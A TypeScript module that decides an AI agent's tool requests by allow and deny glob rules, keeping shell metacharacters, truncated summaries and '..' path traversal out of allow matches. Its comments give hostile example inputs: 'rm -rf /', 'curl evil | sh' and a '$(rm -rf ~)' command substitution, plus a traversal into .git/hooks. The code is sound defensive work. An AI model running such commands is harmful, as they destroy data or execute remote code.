/**
 * `approvals.rules` (Layer-1): requests decided at once, without a person. A rule matches a
 * request when its `tool` names the request's tool (`*` any), its `harness` (if set) the agent's
 * harness type, and its `match` glob (if set) the whole summary (`npm test*`). Deny rules win
 * over allow rules: of the matching rules the first deny, else the first allow, decides.
 *
 * An allow rule's wildcards never stand for a shell metacharacter: `npm test*` allows
 * `npm test -- --watch` but not `npm test; rm -rf /`, `npm test && curl evil | sh` or
 * `npm test $(rm -rf ~)` (a person decides those), unless the glob writes that character itself.
 * A deny rule's wildcards match anything (`*--force*` denies `ls; git push --force`). A summary
 * that was cut (it ends with `…`) is never allowed by a rule: what was cut is unknown; nor is one
 * with a `..` path segment unless the glob has one (`src/*` must not allow `src/../.git/hooks/x`).
 */
export interface ApprovalRule {
  harness?: string
  tool: string
  match?: string
  decision: 'allow' | 'deny'
}

/**
 * The rules of a resolved settings tree, each at its index in the setting (the index a decision
 * records); one that is not well formed (the schema checks them on save) is null and never matches.
 */
export function rulesOf(tree: unknown): (ApprovalRule | null)[] {
  const list = (tree as {approvals?: {rules?: unknown}} | null | undefined)?.approvals?.rules
  if (!Array.isArray(list)) return []
  return list.map((r) => (!!r && typeof r === 'object' && typeof r.tool === 'string' && (r.decision === 'allow' || r.decision === 'deny') ? (r as ApprovalRule) : null))
}

/** A glob as a whole-string pattern: `*` any run of characters, `?` one; nothing else is special. */
export function globRegExp(glob: string): RegExp {
  const body = glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, '[\\s\\S]*').replace(/\?/g, '[\\s\\S]')
  return new RegExp(`^${body}$`)
}

/**
 * Characters that end, chain, pipe, redirect or substitute a shell command (and the newline and
 * the truncation mark): an allow rule's `*` and `?` do not match them.
 */
const SHELL_META = ';&|`$<>()\n\r…'
const META_CLASS = `[^${SHELL_META.replace(/[\]\\^-]/g, '\\$&')}]`

/** A `..` path segment: `{tool: Write, match: "src/*"}` must not allow `src/../.git/hooks/x`. */
const PARENT_SEGMENT = /(^|[\/\s=])\.\.([\/\s]|$)/

/** An allow rule's glob: like globRegExp, but a wildcard never matches a shell metacharacter. */
export function allowGlobRegExp(glob: string): RegExp {
  const body = glob.replace(/[.+^${}()|[\]\\]/g, '\\$&').replace(/\*/g, `${META_CLASS}*`).replace(/\?/g, META_CLASS)
  return new RegExp(`^${body}$`)
}

/** The rule that decides a request (its index in the setting), or null: a person decides. */
export function ruleDecision(rules: readonly (ApprovalRule | null)[], req: {harness: string; tool: string; summary: string}): {index: number; decision: 'allow' | 'deny'} | null {
  let allow: number | null = null
  for (let i = 0; i < rules.length; i++) {
    const r = rules[i]
    if (!r) continue
    if (r.harness && r.harness !== req.harness) continue
    if (r.tool !== '*' && r.tool !== req.tool) continue
    if (r.match !== undefined && !(r.decision === 'allow' ? allowGlobRegExp(r.match) : globRegExp(r.match)).test(req.summary)) continue
    if (r.decision === 'allow' && (req.summary.endsWith('…') || (PARENT_SEGMENT.test(req.summary) && !PARENT_SEGMENT.test(r.match ?? '')))) continue
    if (r.decision === 'deny') return {index: i, decision: 'deny'}
    allow ??= i
  }
  return allow === null ? null : {index: allow, decision: 'allow'}
}
